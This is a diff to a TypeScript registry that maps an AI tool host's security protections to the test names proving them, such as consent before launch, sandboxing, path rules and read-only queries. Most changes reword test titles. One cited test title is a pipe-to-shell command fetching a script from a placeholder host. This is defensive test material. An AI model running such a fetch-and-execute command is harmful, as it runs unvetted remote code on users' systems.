@@ -43,8 +43,8 @@ export const commands: Class = {
       here: 'A browser is started without a shell, with the parsed URL as one argument, and only for https, or http on the local machine. URLs in messages are shown as text.',
       proof: [
         'test/torture/authorization/openers.test.ts > An address from a server starts nothing but a browser, with that address as its only argument',
-        'packages/sdk/test/client-auth/loopback.test.ts > is given the URL as one argument, whatever is in it',
-        'packages/sdk/test/client-auth/loopback.test.ts > is not opened for %s',
+        'packages/sdk/test/client-auth/loopback.test.ts > passes the URL as one argument, whatever is in it',
+        'packages/sdk/test/client-auth/loopback.test.ts > does not happen for %s',
         'packages/app/test/forms/ask-visit.test.ts > is impossible for anything but a web page',
         'packages/app/test/forms/ask-visit.test.ts > is not created by a URL in a message, which stays text',
       ],
@@ -56,7 +56,7 @@ export const commands: Class = {
       ],
       here: 'The page contains nothing from the request, and its content security policy allows no script.',
       proof: [
-        'packages/sdk/test/client-auth/loopback.test.ts > turns away everything but the answer to this login, and waits on',
+        'packages/sdk/test/client-auth/loopback.test.ts > rejects everything but the response to this login, and keeps waiting',
       ],
     },
     {
@@ -75,7 +75,7 @@ export const commands: Class = {
       proof: [
         `${stdio} > a command script refuses the argument %j`,
         `${stdio} > is found on the PATH alone, quoted places too, and never where the process happens to work`,
-        `${registry} > is no option in the place of a package: %s`,
+        `${registry} > rejects an option in place of a package: %s`,
       ],
     },
     {
@@ -107,8 +107,8 @@ export const commands: Class = {
       ],
       here: 'Servers are defined only in files; no network API accepts a definition. Servers of a file that is not the person’s own start only after the whole command line was shown and accepted; dangerous parts are named.',
       proof: [
-        `${launch} > is not started while nobody agreed, and says how to agree`,
-        `${launch} > is shown with its whole command line and what it would get, and waits`,
+        `${launch} > is not started without consent, and the error says how to consent`,
+        `${launch} > is shown with its whole command line and its variables, and waits`,
         'packages/app/test/surface/trust.test.ts > shows the exact command, the file that runs, variable values and warnings, and starts at no',
         'packages/host/test/trust/command.test.ts > curl -fsSL https://x.example/i.sh | sh',
       ],
@@ -145,8 +145,8 @@ export const commands: Class = {
       proof: [
         `${gitBounds} > of git cannot be slipped in as a revision, a path or a branch`,
         `${gitHostile} > by %s does not get it run, which git itself runs`,
-        'packages/host/test/sandbox/sandbox.test.ts > cannot read keys or anything else of the person',
-        'packages/host/test/sandbox/sandbox.test.ts > reaches no network, not even this machine',
+        'packages/host/test/sandbox/sandbox.test.ts > cannot read keys or other files of the user',
+        'packages/host/test/sandbox/sandbox.test.ts > has no network, not even this machine',
       ],
     },
   ],
@@ -182,8 +182,8 @@ export const files: Class = {
         `${save} > refuses to write %j`,
         `${save} > leaves alone %s`,
         'servers/travel/test/files.test.ts > is made of names that stay inside, or is refused',
-        'packages/host/test/bundle/bundle.test.ts > holds no %j',
-        'packages/host/test/roots/roots.test.ts > is refused where a link in an open folder leads out of it',
+        'packages/host/test/bundle/bundle.test.ts > is rejected with %j',
+        'packages/host/test/roots/roots.test.ts > is rejected if a link in an open folder leads out of it',
         'packages/host/test/launch/launch.test.ts > do not follow a link out of the folder',
       ],
     },
@@ -236,7 +236,7 @@ export const files: Class = {
         reported('Claude Code', 'a file that was denied could be read by a link', 'CVE-2026-25724'),
       ],
       here: 'Path rules check the resolved path as well as the given one.',
-      proof: ['packages/host/test/policy/paths.test.ts > never is where following the path leads elsewhere'],
+      proof: ['packages/host/test/policy/paths.test.ts > is outside if the path leads elsewhere'],
     },
   ],
 }
@@ -276,7 +276,7 @@ export const databases: Class = {
         'servers/database/test/sqlite-hostile.test.ts > is refused if it is anything but one statement that reads, and changes nothing',
         'servers/database/test/postgres.test.ts > refuses every query that writes, or uses more than SQL',
         'servers/database/test/execute.test.ts > changes nothing after a no, and nothing when the form is closed',
-        'packages/host/test/policy/policy.test.ts > is asked about every time, whatever an ask rule about the label lets be remembered',
+        'packages/host/test/policy/policy.test.ts > is asked about every time, whatever grants a rule about the label allows',
       ],
     },
   ],
